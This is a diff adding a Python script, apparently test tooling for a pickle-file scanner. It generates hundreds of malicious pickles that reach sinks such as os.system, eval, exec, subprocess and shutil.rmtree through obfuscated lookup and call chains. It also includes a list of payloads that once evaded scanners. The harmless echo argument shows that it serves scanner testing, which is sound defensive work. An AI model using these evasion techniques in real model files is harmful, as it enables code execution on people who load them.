@@ -1,0 +1,208 @@
+"""Writes payloads that a seed chooses: ways of reaching a sink, composed of the primitives that pickles have.
+
+    payloads.py FOLDER [COUNT] [SEED]
+
+Each payload leads from data to a call of a sink with an argument of the file, in one to four steps: a lookup by name, a function
+with arguments, a call of what a call returned, an iteration, a setter, a hook. None of them runs when it is written. A scan must
+call none of them clean.
+"""
+
+import random
+import sys
+from pathlib import Path
+
+TEXT, PROTO = "echo a payload ran", b"\x80\x04"
+
+
+def short(text):
+    return b"\x8c" + bytes([len(text)]) + text.encode()
+
+
+def name(dotted):
+    """A global: `module:name`."""
+    module, _, attribute = dotted.partition(":")
+    return short(module) + short(attribute) + b"\x93"
+
+
+def many(*parts):
+    return b"(" + b"".join(parts) + b"t"
+
+
+def call(function, *args):
+    return function + many(*args) + b"R"
+
+
+def listed(*items):
+    return b"](" + b"".join(items) + b"e"
+
+
+def mapped(**entries):
+    return b"}(" + b"".join(short(key) + value for key, value in entries.items()) + b"u"
+
+
+def new(cls, *args):
+    return cls + many(*args) + b"\x81"
+
+
+ARGUMENT = short(TEXT)
+NONE, TRUE = b"N", b"\x88"
+
+# Sinks that no list may call harmless when they are called, and the arguments that they would do something with. They are of
+# all kinds: well-known ones, functions whose source hides the call, constructors, methods.
+SINKS = {
+    "os:system": [ARGUMENT], "posix:system": [ARGUMENT], "builtins:eval": [short("1")], "builtins:exec": [short("1")],
+    "subprocess:getoutput": [ARGUMENT], "numpy:savetxt": [short("out.txt"), listed()], "numpy:load": [short("in.npy")],
+    "numpy.ma.core:_convert2ma": [short("loads"), NONE, NONE], "numpy.ma.core:_frommethod": [short("tofile")],
+    "numpy:genfromtxt": [short("http://127.0.0.1:1/a")], "torch.serialization:load": [short("in.pt")],
+    "torch.distributed.checkpoint._fsspec_filesystem:FsspecReader": [short("http://127.0.0.1:1/a")],
+    "torch.distributed.checkpoint:FileSystemReader": [short("/tmp")], "torch.utils.data:DataLoader": [listed()],
+    "torch.ao.quantization.fx._lower_to_native_backend:Graph": [], "torch.ao.quantization.fx._lower_to_native_backend:GraphModule": [NONE, NONE],
+    "torch.ao.quantization.fx._lower_to_native_backend:Node": [NONE, short("n"), short("call_function"), NONE, many(), b"}"],
+    "torch.torch_version:_LazyImport": [short("os")], "torch.nn.utils.rnn:namedtuple": [short("A"), short("b")],
+    "torch.optim.swa_utils:deepcopy": [ARGUMENT], "torch._export.serde.serialize:deserialize_torch_artifact": [ARGUMENT],
+    "collections:namedtuple": [short("A"), short("b")], "logging.config:dictConfig": [b"}"], "importlib:import_module": [short("this")],
+    "torch.jit._script:CompilationUnit": [ARGUMENT], "shutil:rmtree": [short("/nonexistent")], "io:open": [short("out.txt"), short("w")],
+    "torch.hub:load": [short("a/b"), short("c")], "ctypes:CDLL": [short("libc.so.6")], "torch:from_file": [short("in.bin")],
+    "torch.nn.modules.module:Module.register_forward_hook": [NONE, NONE], "functools:singledispatch": [name("builtins:len")],
+}
+
+
+class Composer(object):
+    def __init__(self, seed):
+        self.random = random.Random(seed)
+
+    def payload(self):
+        """A pickle, and the names of its steps."""
+        sink = self.random.choice(sorted(SINKS))
+        args = SINKS[sink]
+        how, function = self.function(sink)
+        how_called, body = self.called(function, args, sink)
+        wrapped = self.random.choice([self.plain, self.in_dict, self.in_state])
+        return PROTO + wrapped(body) + b".", [sink, how, how_called]
+
+    # How the function is found.
+
+    def function(self, sink):
+        module, _, attribute = sink.partition(":")
+        ways = {
+            "named": lambda: name(sink),
+            "dotted": lambda: name("torch.serialization:" + module + "." + attribute),
+            "getattr": lambda: call(name("builtins:getattr"), call(name("importlib:import_module"), short(module)), short(attribute)),
+            "attrgetter": lambda: call(call(name("operator:attrgetter"), short(attribute)), call(name("builtins:__import__"), short(module))),
+            "dict.get": lambda: call(name("builtins:dict.get"), call(name("builtins:vars"), call(name("importlib:import_module"), short(module))), short(attribute)),
+            "lazy import": lambda: call(name("builtins:dict.get"), call(name("builtins:getattr"), new(name("torch.torch_version:_LazyImport"), short(module)),
+                                                                        short("__dict__")), short(attribute)),
+            "itemgetter": lambda: call(call(name("operator:itemgetter"), short(attribute)), call(name("builtins:vars"), name(module + ":" + attribute))),
+            "next of iter": lambda: call(name("builtins:next"), call(name("builtins:iter"), listed(name(sink)))),
+            "max of a list": lambda: call(name("builtins:max"), listed(name(sink))),
+            "OrderedDict.get": lambda: call(name("builtins:dict.get"), call(name("collections:OrderedDict"), listed(b"(" + short("k") + name(sink) + b"t")), short("k")),
+            "reduce of getattr": lambda: call(name("functools:reduce"), name("builtins:getattr"), many(call(name("builtins:__import__"), short(module)), short(attribute))),
+            "defaultdict": lambda: call(name("operator:getitem"), call(name("collections:defaultdict"), call(name("functools:partial"), name(sink))), short("k")),
+        }
+        how = self.random.choice(sorted(ways))
+        return how, ways[how]()
+
+    # How it is called.
+
+    def called(self, function, args, sink):
+        partial = lambda: call(name("functools:partial"), function, *args)  # noqa: E731
+        one = args[0] if args else NONE
+        ways = {
+            "REDUCE": lambda: call(function, *args),
+            "partial": lambda: call(partial()),
+            "NEWOBJ of partial's result": lambda: call(name("builtins:list"), call(name("builtins:map"), function, listed(one))),
+            "reduce": lambda: call(name("functools:reduce"), function, many(one, one)),
+            "map in a set": lambda: call(name("builtins:set"), call(name("builtins:map"), function, listed(one))),
+            "filter": lambda: call(name("builtins:tuple"), call(name("builtins:filter"), function, listed(one))),
+            "sorted with a key": lambda: call(partial_with_keywords(name("builtins:sorted"), "key", function), listed(one, one)),
+            "iter with a sentinel": lambda: call(name("builtins:list"), call(name("builtins:iter"), partial(), NONE)),
+            "defaultdict item": lambda: call(name("operator:getitem"), call(name("collections:defaultdict"), partial()), short("k")),
+            "__setstate__ in a state": lambda: new(name("argparse:Namespace")) + mapped(__setstate__=function) + b"b" + one + b"b",
+            "extend in a state": lambda: new(name("collections:UserList")) + mapped(extend=function) + b"b(" + one + b"e",
+            "slot state": lambda: new(name("torch.fx.graph:Graph")) + many(NONE, mapped(_codegen=call(function, *args))) + b"b",
+            "BUILD on what next returned": lambda: call(name("builtins:next"), call(name("builtins:iter"), listed(new(name("torch.fx.graph:Graph")))))
+            + many(NONE, mapped(owning_module=call(function, *args))) + b"b",
+            "__reduce__ by copy": lambda: call(name("copy:copy"), new(name("argparse:Namespace")) + mapped(f=call(function, *args)) + b"b"),
+            "DataLoader under list": lambda: call(name("builtins:list"), new(name("torch.utils.data.dataloader:DataLoader")) + mapped(
+                dataset=listed(one), collate_fn=function, batch_sampler=listed(listed(b"K\0")), num_workers=b"K\0") + b"b"),
+            "__missing__": lambda: call(name("collections:ChainMap.get"), call(name("collections:ChainMap"), call(name("collections:defaultdict"), partial())), short("k")),
+            "cached property": lambda: call(name("functools:cached_property"), function) + b"0" + call(function, *args),
+            "methodcaller": lambda: call(call(name("operator:methodcaller"), short("__call__"), *args), function),
+            "starmap": lambda: call(name("collections:deque"), call(name("itertools:starmap"), function, listed(many(*args)))),
+            "hook of a module": lambda: call(name("torch.nn.modules.module:Module.__call__"), new(name("torch.nn.modules.linear:Identity")) + mapped(
+                _forward_pre_hooks=b"}K\0" + function + b"s", _parameters=b"}", _buffers=b"}", _modules=b"}") + b"b", one),
+            "tree_map": lambda: call(name("torch.utils._pytree:tree_map"), function, listed(one)),
+            "default_collate": lambda: call(name("torch.utils.data._utils.collate:collate"), listed(one), name("builtins:str")) + b"0" + call(function, *args),
+            "apply": lambda: call(name("torch.nn.modules.module:Module.apply"), new(name("torch.nn.modules.linear:Identity")) + mapped(_modules=b"}") + b"b", function),
+            "apply_along_axis": lambda: call(name("numpy:apply_along_axis"), function, b"K\0", listed(b"K\1")),
+            "INST": lambda: b"(" + b"".join(args) + b"i" + sink.replace(":", "\n").encode() + b"\n",
+            "OBJ": lambda: b"(" + function + b"".join(args) + b"o",
+        }
+        how = self.random.choice(sorted(ways))
+        return how, ways[how]()
+
+    # Where the call is.
+
+    def plain(self, body):
+        return body
+
+    def in_dict(self, body):
+        return mapped(state_dict=mapped(weight=b"K\1"), extra=body)
+
+    def in_state(self, body):
+        return new(name("torch.nn.modules.linear:Identity")) + mapped(training=TRUE, extra=body) + b"b"
+
+
+def partial_with_keywords(function, keyword, value):
+    return call(name("functools:partial"), function) + many(function, many(), mapped(**{keyword: value}), NONE) + b"b"
+
+
+# Each of these was once called clean.
+FOUND = {
+    "graph_reduce": call(name("torch.ao.quantization.fx._lower_to_native_backend:Graph")),
+    "graph_slots": new(name("torch.ao.quantization.fx._lower_to_native_backend:Graph")) + many(NONE, mapped(owning_module=ARGUMENT)) + b"b",
+    "node_reduce": call(name("torch.ao.quantization.fx._lower_to_native_backend:Node"), NONE, short("n"), short("call_function"), NONE, many(), b"}"),
+    "node_slots": new(name("torch.ao.quantization.fx._lower_to_native_backend:Node")) + many(NONE, mapped(args=many())) + b"b",
+    "graph_module_reduce": call(name("torch.ao.quantization.fx._lower_to_native_backend:GraphModule"), b"}", NONE),
+    "graph_module_slots": new(name("torch.ao.quantization.fx._lower_to_native_backend:GraphModule"), b"}", NONE) + many(NONE, mapped(graph=NONE)) + b"b",
+    "lazy_import": call(call(name("builtins:dict.get"), new(name("torch.torch_version:_LazyImport")) + mapped(_cls_name=short("os")) + b"b", short("system")), ARGUMENT),
+    "convert2ma": call(call(name("numpy.ma.core:_convert2ma"), short("savetxt"), short(""), short("")), short("out.txt"), listed()),
+    "frommethod": call(call(name("numpy.ma.core:_frommethod"), short("tofile")), listed(), short("out.txt")),
+    "fsspec": call(name("torch.distributed.checkpoint._fsspec_filesystem:FsspecReader"), short("http://127.0.0.1:1/a")),
+    "data_loader": call(name("builtins:list"), new(name("torch.utils.data.dataloader:DataLoader")) + mapped(dataset=listed()) + b"b"),
+    "next_of_iter": call(name("builtins:next"), call(name("builtins:iter"), listed(new(name("argparse:Namespace"))))) + mapped(a=ARGUMENT) + b"b",
+    "namedtuple": call(name("torch.nn.utils.rnn:namedtuple"), short("A"), short("b")),
+    "deepcopy": call(name("torch.optim.swa_utils:deepcopy"), ARGUMENT),
+    "library": call(name("torch.ao.quantization.fx._decomposed:Library"), short("a"), short("DEF")),
+    "partial_result": call(call(name("functools:partial"), name("numpy:savetxt")), short("out.txt"), listed()),
+    "class_of_slots": new(name("argparse:Namespace")) + many(NONE, mapped(__class__=name("torch.fx.graph:Graph"))) + b"b",
+    "key": b"}" + new(name("torch.fx.node:Node")) + b"K\1s",
+    "module_dicts": new(name("torch.nn.modules.conv:Conv2d")) + mapped(_modules=new(name("torch.torch_version:_LazyImport"))) + b"b",
+    "optimizer_groups": new(name("torch.optim.adam:Adam")) + mapped(param_groups=new(name("torch.utils.data.dataloader:DataLoader"))) + b"b",
+    "bit_generator": call(name("numpy.random._pickle:__bit_generator_ctor"), name("torch.utils.data.dataloader:DataLoader")),
+    "reconstruct": call(name("numpy.core.multiarray:_reconstruct"), name("numpy:memmap"), many(b"K\0"), b"C\1b"),
+    "wrapper_subclass": call(name("torch._tensor:_rebuild_from_type_v2"), name("numpy:load"), name("torch:Tensor"), many(ARGUMENT), b"}"),
+    "build_on_function": name("torch.nn.functional:relu") + mapped(__code__=NONE) + b"b",
+    "persistent_id": many(short("storage"), new(name("torch.torch_version:_LazyImport")), short("0"), short("cpu"), b"K\1") + b"Q",
+}
+
+
+def write(folder, count=200, seed=22):
+    folder.mkdir(parents=True, exist_ok=True)
+    composer, seen, steps = Composer(seed), set(), {}
+    for title, body in FOUND.items():
+        (folder / f"found_{title}.pkl").write_bytes(PROTO + body + b".")
+    while len(seen) < count:
+        data, how = composer.payload()
+        if data not in seen:
+            path = folder / f"payload_{len(seen):03}.pkl"
+            seen.add(data)
+            steps[path.name] = how
+            path.write_bytes(data)
+    return steps
+
+
+if __name__ == "__main__":
+    arguments = sys.argv[1:]
+    for file, how in write(Path(arguments[0]), *map(int, arguments[1:])).items():
+        print(file, *how, sep="\t")
